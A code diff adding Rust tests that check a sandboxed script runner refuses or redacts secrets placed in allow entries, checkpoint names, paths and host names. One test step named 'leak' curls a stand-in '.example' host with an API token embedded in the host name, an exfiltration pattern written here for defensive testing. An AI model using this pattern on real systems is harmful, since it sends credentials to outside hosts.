@@ -71,3 +71,76 @@ provider_tests! {
         rfs.assert_no_leftovers();
     }
 }
+
+/// A script that built an identifier from a secret — an allow entry, a
+/// checkpoint name, a cache path, a `sync_source` dest, a `put`
+/// destination — had the value journaled and shown (placement, every
+/// `net.connect` rule, EVIDENCE.md, report.html, the console, a bundle
+/// file named after it). Each is refused before anything runs, and the
+/// value is nowhere.
+#[test]
+fn a_secret_in_an_identifier_a_script_builds_is_refused_and_published_nowhere() {
+    let rfs = Rfs::new(Prov::Local);
+    let repo = Repo::new();
+    let secret = "Tok3nValue9f8e7d";
+    for (what, script) in [
+        (
+            "an allow entry",
+            r#"sandbox(#{ network: #{ allow: [arg("API_TOKEN") + ".example"] } }); step("never", "echo ran");"#,
+        ),
+        (
+            "a checkpoint name",
+            r#"step("a", "true"); checkpoint(arg("API_TOKEN")); step("never", "echo ran");"#,
+        ),
+        (
+            "a cache's path",
+            r#"sandbox(#{ caches: #{ pip: "~/.cache/" + arg("API_TOKEN") } }); step("never", "echo ran");"#,
+        ),
+        (
+            "sync_source()'s dest",
+            r#"sync_source(#{ dest: "src-" + arg("API_TOKEN") }); step("never", "echo ran");"#,
+        ),
+        (
+            "put()'s destination",
+            r#"put("reproducer-marker.txt", arg("API_TOKEN")); step("never", "echo ran");"#,
+        ),
+    ] {
+        let out = rfs.run_with(
+            repo.path(),
+            script,
+            &["--var", &format!("API_TOKEN={secret}")],
+        );
+        assert_eq!(out.code, 3, "{what}: {}", out.stderr);
+        assert!(
+            out.stderr.contains(&format!("{what} holds a secret")),
+            "{what}: {}",
+            out.stderr
+        );
+        assert!(!out.stdout.contains("ran"), "{what}");
+        assert_nowhere(&out, secret);
+        assert_nowhere(&out, &secret.to_ascii_lowercase());
+    }
+    rfs.assert_no_leftovers();
+}
+
+/// The proxy lower-cases host names before they are recorded, so a step
+/// connecting to `$TOKEN.example` had the secret journaled in lower case,
+/// past the redaction. Names are redacted without regard to case.
+#[test]
+fn a_secret_in_a_host_name_a_step_connects_to_is_redacted_in_any_case() {
+    let rfs = Rfs::new(Prov::Local);
+    let repo = Repo::new();
+    let secret = "Tok3nValue9f8e7d";
+    let out = rfs.run_with(
+        repo.path(),
+        r#"let t = arg("API_TOKEN");
+        step("leak", "curl -sS -m 5 -o /dev/null http://$T.example/ || true", #{ env: #{ T: t } });"#,
+        &["--var", &format!("API_TOKEN={secret}")],
+    );
+    out.assert_code(0);
+    let conns = out.entries("net.connect");
+    assert!(!conns.is_empty(), "the attempt is recorded");
+    assert_nowhere(&out, secret);
+    assert_nowhere(&out, &secret.to_ascii_lowercase());
+    rfs.assert_no_leftovers();
+}
